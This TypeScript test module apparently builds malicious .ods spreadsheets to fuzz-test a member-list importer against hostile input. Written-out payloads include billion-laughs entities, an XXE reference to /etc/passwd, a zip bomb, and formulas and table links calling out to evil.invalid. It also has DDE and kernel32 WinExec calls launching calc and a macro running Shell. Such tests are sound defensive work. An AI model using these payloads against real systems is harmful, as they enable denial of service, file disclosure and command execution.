import { odsParts, type OdsXml } from '../support/ods.ts';
import { zipOf } from '../support/zip.ts';
import type { Dice } from './dice.ts';
import type { Attack } from './hostile-xlsx.ts';
import { listRows } from './list-rows.ts';

const row = (cells: string, attributes = '') => `<table:table-row ${attributes}>${cells}</table:table-row>`;
const text = (written: string) => `<table:table-cell office:value-type="string"><text:p>${written}</text:p></table:table-cell>`;
const number = (attributes = '') => `<table:table-cell office:value-type="float" office:value="1" ${attributes}/>`;
const sheet = (rows: string) => `<table:table table:name="DS">${rows}</table:table>`;
const STYLES = '<style:style style:name="ce1" style:family="table-cell"><style:text-properties style:font-name=".VnTime"/></style:style>';
const MANIFEST = '<manifest:manifest><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>';

function memberSheet(dice: Dice): string {
  const rows = listRows(dice).map((cells) => row(cells.map(text).join('') + '<table:table-cell office:value-type="date" office:date-value="2026-03-18" table:number-columns-repeated="2"><text:p>18/03/26</text:p></table:table-cell>'));
  return sheet(rows.join('') + row('<table:table-cell table:number-columns-repeated="1024"/>', 'table:number-rows-repeated="1048000"'));
}

/** A whole and honest member list. */
export function honestOds(dice: Dice): Buffer {
  return zipOf(odsParts({ tables: memberSheet(dice), styles: STYLES }));
}

function withTables(tables: string, more: Partial<OdsXml> = {}): Buffer {
  return zipOf(odsParts({ tables, ...more }));
}

function withContent(content: string | Buffer): Buffer {
  return zipOf({ ...odsParts({ tables: '' }), 'content.xml': content });
}

const COUNTS = ['0', '-1', '16385', '1048577', '99999999999999999999', '1e9', '', 'x', '9007199254740993'];
const PIECES = ['<', '>', '"', '/', '&', '&#0;', '</text:p>', '<table:table-cell>', '</table:table-row>', '<!--', '<![CDATA[', '<table:table>', 'table:number-columns-repeated="900"', '9999999999', '\0', ''];

/** What can be wrong with an .ods file on purpose. */
export const ODS_ATTACKS: Record<string, Attack> = {
  'repeats over the whole sheet': (dice) => withTables(sheet(dice.pick([
    row(number('table:number-columns-repeated="16384"'), 'table:number-rows-repeated="1048576"'),
    row(number(), 'table:number-rows-repeated="1048576"'),
    row(number('table:number-columns-repeated="16384"')).repeat(400),
    row('<table:table-cell table:formula="of:=1" office:value-type="float" office:value="1" table:number-columns-repeated="16000"/>', 'table:number-rows-repeated="100000"'),
  ]))),
  'repeats that are no number': (dice) => withTables(sheet(row(number(`table:number-columns-repeated="${dice.pick(COUNTS)}" table:number-rows-spanned="${dice.pick(COUNTS)}"`), `table:number-rows-repeated="${dice.pick(COUNTS)}"`) + row(number()))),
  'spaces without number': (dice) => withTables(sheet(row(text(`<text:s text:c="${dice.pick(['99999999', '2147483647', '-5'])}"/>`.repeat(300))))),
  'entities that grow': (dice) => withContent(`<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100)}">${Array.from({ length: 20 }, (_, index) => `<!ENTITY b${index} "${`&${index === 0 ? 'a' : `b${index - 1}`};`.repeat(10)}">`).join('')}]><office:document-content><office:body><office:spreadsheet>${dice.pick(['&b19;', sheet(row(text('&b19;')))])}</office:spreadsheet></office:body></office:document-content>`),
  'an entity from another file': () => withContent('<!DOCTYPE x SYSTEM "file:///etc/passwd"><office:document-content/>'),
  'pieces of XML are changed': (dice) => {
    let content = String(odsParts({ tables: memberSheet(dice), styles: STYLES })['content.xml']);
    for (let times = dice.below(8); times >= 0; times -= 1) {
      const from = dice.below(content.length);
      content = content.slice(0, from) + dice.pick(PIECES) + content.slice(from + dice.below(8));
    }
    return withContent(content);
  },
  'XML is cut off': (dice) => {
    const content = String(odsParts({ tables: memberSheet(dice) })['content.xml']);
    return withContent(content.slice(0, dice.below(content.length)));
  },
  'an entity no XML has': (dice) => withTables(sheet(row(text(`Nguyễn&nbsp;Văn ${dice.below(9)}`)))),
  'a zip bomb': (dice) => withTables(memberSheet(dice), { parts: { [dice.pick(['Pictures/1.png', 'styles.xml', 'content.xml'])]: Buffer.alloc(40 * 1024 * 1024, ' ') } }),
  'styles that are their own parents': () => withTables(sheet(row('<table:table-cell table:style-name="a" office:value-type="string"><text:p>x</text:p></table:table-cell>')), { styles: '<style:style style:name="a" style:family="table-cell" style:parent-style-name="b"/><style:style style:name="b" style:family="table-cell" style:parent-style-name="a"/>' }),
  'styles without number': (dice) => withTables(memberSheet(dice), { styles: Array.from({ length: 80_000 }, (_, index) => `<style:style style:name="s${index}" style:family="table-cell"/>`).join('') }),
  'tables in tables': (dice) => withTables('<table:table table:name="x"><table:table-row><table:table-cell>'.repeat(dice.pick([3, 60, 400]))),
  'links to other files': (dice) => withTables(`${memberSheet(dice)}<table:table table:name="'file:///etc/passwd'#A"><table:table-source xlink:href="${dice.pick(['file:///etc/passwd', 'http://evil.invalid/a.ods', '\\\\evil.invalid\\a.ods'])}"/>${row(number())}</table:table><table:dde-links><table:dde-link><office:dde-source/>${sheet(row(number()))}</table:dde-link></table:dde-links>`),
  'formulas that call out': (dice) => withTables(sheet(row(['of:=WEBSERVICE("http://evil.invalid/")', 'of:=DDE("cmd";"/C calc";"x")', 'msoxl:=CALL("kernel32","WinExec","JCJ","calc",0)', `of:=${'['.repeat(dice.below(9000))}`].map((formula) => `<table:table-cell table:formula="${formula.replaceAll('"', '&quot;')}" office:value-type="string"><text:p>đã tính</text:p></table:table-cell>`).join('')))),
  'macros and embedded objects': (dice) => withTables(memberSheet(dice), { parts: { 'Basic/Standard/Module1.xml': '<script:module>Shell("calc")</script:module>', 'Scripts/python/evil.py': 'import os', 'Object 1/content.xml': '<office:document-content/>', 'ObjectReplacements/Object 1': dice.bytes(500) } }),
  'a password': (dice) => withTables(memberSheet(dice), { parts: { 'META-INF/manifest.xml': MANIFEST, 'content.xml': dice.bytes(900) } }),
  'another kind of document': (dice) => withTables('', { parts: { mimetype: dice.pick(['application/vnd.oasis.opendocument.text', 'application/pdf', '', 'x'.repeat(100_000)]) } }),
  'values that are none': (dice) => withTables(sheet(row(['float', 'date', 'time', 'boolean', 'percentage', 'lạ'].map((type) => `<table:table-cell office:value-type="${type}" office:value="${dice.pick(['x', '1e999', 'NaN', ''])}" office:date-value="${dice.pick(['2026-13-45', '-1', '9999999-01-01'])}" office:time-value="P${'9'.repeat(dice.below(400))}D" office:boolean-value="có"><text:p>x</text:p></table:table-cell>`).join('')))),
  'more sheets than any workbook has': (dice) => withTables('<table:table table:name="A"/>'.repeat(900 + dice.below(300))),
};

/** The same, of files so large that a run makes few of them. */
export const LARGE_ODS_ATTACKS: Record<string, Attack> = {
  'many repeats within the limits, each a bit': () => withTables(sheet(row(number('table:number-columns-repeated="14"'), 'table:number-rows-repeated="1000"').repeat(190))),
  'texts of the greatest length': () => withTables(sheet(Array.from({ length: 3200 }, (_, index) => row(text(String(index).padEnd(32_767, 'ệ')))).join(''))),
};
